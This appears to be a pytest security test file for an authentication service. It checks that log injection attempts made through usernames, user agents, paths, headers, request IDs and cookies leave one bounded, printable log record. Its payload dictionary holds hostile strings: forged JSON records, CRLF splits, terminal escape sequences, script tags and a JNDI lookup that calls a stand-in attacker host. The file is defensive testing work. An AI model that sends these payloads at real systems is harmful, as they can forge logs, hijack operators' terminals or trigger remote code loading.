"""Lines, colours and forged facts smuggled into logs: A57."""

import json
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.attack.servers import new_address

pytestmark = pytest.mark.attack

FORGED = "FORGED-RECORD"
LONGEST_RECORD = 2_048  # bytes: of a user agent 256 characters are kept, of a path as many
MEGABYTE = 1_000_000

ATTACKS = {
    "record": f'x\r\n{{"name":"login.succeeded","user_id":"{FORGED}"}}\r\n',
    "line": f"x\n2026-01-01 00:00:00 INFO {FORGED}",
    "feeds": f"x\x0b{FORGED}\x0c\x1c\x1d\x1e",
    "colours": f"\x1b[2J\x1b[31m{FORGED}\x1b[0m",
    "title": f"\x1b]0;{FORGED}\x07\x1b]8;;https://evil.test\x07click\x1b]8;;\x07",
    "c1": f"\x9b31m{FORGED}\x9d\x85\x90",
    "separators": f"\u2028{FORGED}\u2029",
    "direction": f"\u202e{FORGED}\u2066",
    "erasing": f"\x00{FORGED}\x7f\x08\x08\x08",
    "quotes": f'"}},"name":"login.succeeded","x":"{FORGED}',
    "encoded": f"%0d%0a{FORGED}%1b[31m",
    "templates": f"${{jndi:ldap://evil.test/{FORGED}}} %s %d {{0}} {FORGED}",
    "markup": f"[red]{FORGED}[/red][link=https://evil.test]x[/link]",
    "html": f"<script>alert('{FORGED}')</script>",
    "long": FORGED * (MEGABYTE // len(FORGED) // 20),
}
"""Texts that become more than text where somebody prints them as they are."""

TEXTS = list(ATTACKS.values())
AGENTS = {**ATTACKS, "megabyte": "Mozilla " * (MEGABYTE // 8), "high megabyte": "\xff" * MEGABYTE}


def heard_during(target, act):
    """Return what an act made the observers write, line by line, and what the servers logged."""
    path = target.folder / "events.jsonl"
    before, log = path.stat().st_size, len(target.log())
    act()
    return path.read_bytes()[before:].splitlines(keepends=True), target.log()[log:]


def texts_in(value):
    """Yield every text in a record."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        yield from (text for part in value.values() for text in texts_in(part))
    elif isinstance(value, list):
        yield from (text for part in value for text in texts_in(part))


def assert_one_record(lines, log, name):
    """Check that an attack left one record of a bounded length, without anything that steers a terminal."""
    assert [json.loads(line)["name"] for line in lines] == [name], lines
    assert len(lines[0]) <= LONGEST_RECORD
    assert lines[0].endswith(b"\n")
    assert all(text.isprintable() for text in texts_in(json.loads(lines[0]))), lines
    assert FORGED not in log


@pytest.mark.parametrize("text", TEXTS, ids=ATTACKS)
def test_a57_username(target, text):
    """Attack: log injection via username. Expected: one record, bounded length."""
    for email in (text, f"{text}@example.test"):
        for how in (
            {"json": {"email": email, "password": text[:1000]}},
            {"form": {"email": email, "password": "x"}},
        ):

            def act(how=how):
                response = target.request("POST", "/auth/login", target.own_page, source=new_address(), **how)
                assert response.status in (303, 401), response

            lines, log = heard_during(target, act)
            assert_one_record(lines, log, "login.failed")
            assert FORGED.encode() not in lines[0]  # what was typed may be a password in the wrong field


@pytest.mark.parametrize("text", AGENTS.values(), ids=AGENTS)
def test_a57_user_agent(target, text):
    """Attack: the same via UA; terminal escapes; 1 MB UA. Expected: one record, bounded length."""
    agent = text.encode("utf-8", "replace")
    for raw in (agent, text.encode("latin-1", "replace"), agent.replace(b"\r", b"").replace(b"\n", b"")):
        headers = [*target.own_page, ("User-Agent", raw)]
        body = {"email": "nobody@example.test", "password": "x"}
        answers = []

        def act(headers=headers, body=body, answers=answers):
            answers.append(
                target.request("POST", "/auth/login", headers, json=body, source=new_address()).status
            )

        lines, log = heard_during(target, act)
        assert FORGED not in log
        if answers == [400]:  # the server itself takes no control characters in a field
            assert lines == []
            continue
        assert answers[0] in (401, 429)
        assert_one_record(lines, log, "login.failed" if answers == [401] else "login.throttled")
        assert len(json.loads(lines[0])["device"]["user_agent"]) <= 256


@pytest.mark.parametrize("text", TEXTS, ids=ATTACKS)
def test_a57_path(target, signed_in, text):
    """The same via the path of a request that is refused, with a session and without."""
    path = f"/notes/{quote(text, safe='')}"
    foreign = [("Sec-Fetch-Site", "cross-site"), ("Referer", "https://evil.test/FORGED-RECORD")]
    for token in (None, signed_in.token):
        answers = []

        def act(token=token, answers=answers):
            answers.append(target.request("POST", path, foreign, token=token, source=new_address()).status)

        lines, log = heard_during(target, act)
        if answers == [404]:  # too odd a path to be looked at
            assert (lines, FORGED in log) == ([], False)
            continue
        assert answers == [403]
        assert_one_record(lines, log, "csrf.refused")
        assert len(json.loads(lines[0])["path"]) <= 256


def test_a57_other_fields(target):
    """The same via fields that applications like to log: none of them gets anywhere."""
    names = ["X-Forwarded-For", "X-Real-IP", "Forwarded", "Referer", "Cookie", "Host", "Via"]
    for name in names:
        for text in TEXTS:
            value = text.encode("latin-1", "replace")
            for cleaned in (value, bytes(byte for byte in value if byte >= 32 and byte != 127)):

                def act(name=name, cleaned=cleaned):
                    forged = [(name, cleaned), ("Sec-Fetch-Site", "cross-site")]
                    target.request("POST", "/notes", forged, body=b"{}", source=new_address())

                lines, log = heard_during(target, act)
                assert FORGED not in log, (name, text)
                if lines:
                    assert_one_record(lines, log, "csrf.refused")
                    assert FORGED.encode() not in lines[0], (name, text)


def test_a57_request_id(target):
    """The same via the id of a request, the one field that is told: as it is if harmless, or not at all."""
    for text in TEXTS:
        value = bytes(byte for byte in text.encode("latin-1", "replace") if byte >= 32 and byte != 127)

        def act(value=value):
            named = [("X-Request-Id", value), ("Sec-Fetch-Site", "cross-site")]
            target.request("POST", "/notes", named, body=b"{}", source=new_address())

        lines, log = heard_during(target, act)
        assert FORGED not in log
        if lines:
            assert_one_record(lines, log, "csrf.refused")
            assert json.loads(lines[0])["request_id"] in ("", value.decode("latin-1"))
            assert re.fullmatch(r"[A-Za-z0-9._-]{0,64}", json.loads(lines[0])["request_id"])


def test_a57_malformed_cookies(target):
    """The same via the session cookie: what was presented is never told."""
    for text in TEXTS:
        value = text.replace(";", "").encode("latin-1", "replace")
        printable = bytes(byte for byte in value if byte >= 32 and byte != 127)

        def act(printable=printable):
            target.request("GET", "/me", [("Cookie", b"__Host-session=" + printable)])

        lines, log = heard_during(target, act)
        assert FORGED.encode() not in b"".join(lines)
        assert FORGED not in log
        assert all(len(line) <= LONGEST_RECORD for line in lines)


def test_a57_names_that_are_kept(target):
    """A name with control characters, or an address that is none, is never stored at all."""
    for number, text in enumerate(TEXTS):
        body = {
            "email": f"{FORGED}{number}@example.test",
            "password": "a perfectly fine phrase",
            "name": text,
        }
        response = target.request("POST", "/auth/register", target.own_page, json=body, source=new_address())
        if text.isprintable() and len(text) < 200:
            assert response.status == 200
            continue
        assert (response.status, response.code) == (422, "name_invalid"), text
        body = {**body, "email": f"{text}@example.test", "name": ""}
        response = target.request("POST", "/auth/register", target.own_page, json=body, source=new_address())
        assert (response.status, response.code) == (422, "email_invalid"), text


def test_a57_terminal_of_an_operator(demo):
    """What people call themselves and their browsers reaches an operator's terminal as text alone."""
    body = {"email": "markup@example.test", "password": "a perfectly fine phrase"}
    markup = f"[red]{FORGED}[/red]"
    named = {**body, "name": markup}
    made = demo.request("POST", "/auth/register", demo.own_page, json=named, source=new_address())
    assert made.status == 200
    # A name from before there were rules, or out of somebody else's user table.
    rename = "UPDATE coatcheck_accounts SET name = ? WHERE email = ?"
    assert demo.database.write(rename, markup + "".join(TEXTS[:10]), body["email"]) == 1
    for text in (ATTACKS["c1"], ATTACKS["markup"]):
        headers = [*demo.own_page, ("User-Agent", text.encode("latin-1"))]
        signed_in = demo.request("POST", "/auth/login", headers, json=body, source=new_address())
        assert signed_in.status == 200
    place = ["--database", f"sqlite:///{demo.database.path}"]
    printed = ""
    for asked in (
        ["users", "list"],
        ["sessions", "list"],
        ["sessions", "show", made.json()["session"]["id"]],
    ):
        command = [str(Path(sys.executable).with_name("coatcheck")), *asked, *place]
        done = subprocess.run(command, check=True, capture_output=True, cwd=demo.folder)
        printed += done.stdout.decode()
    assert markup in printed
    assert all(line.isprintable() for line in printed.splitlines())
    assert all(line.isprintable() for line in demo.log().splitlines())
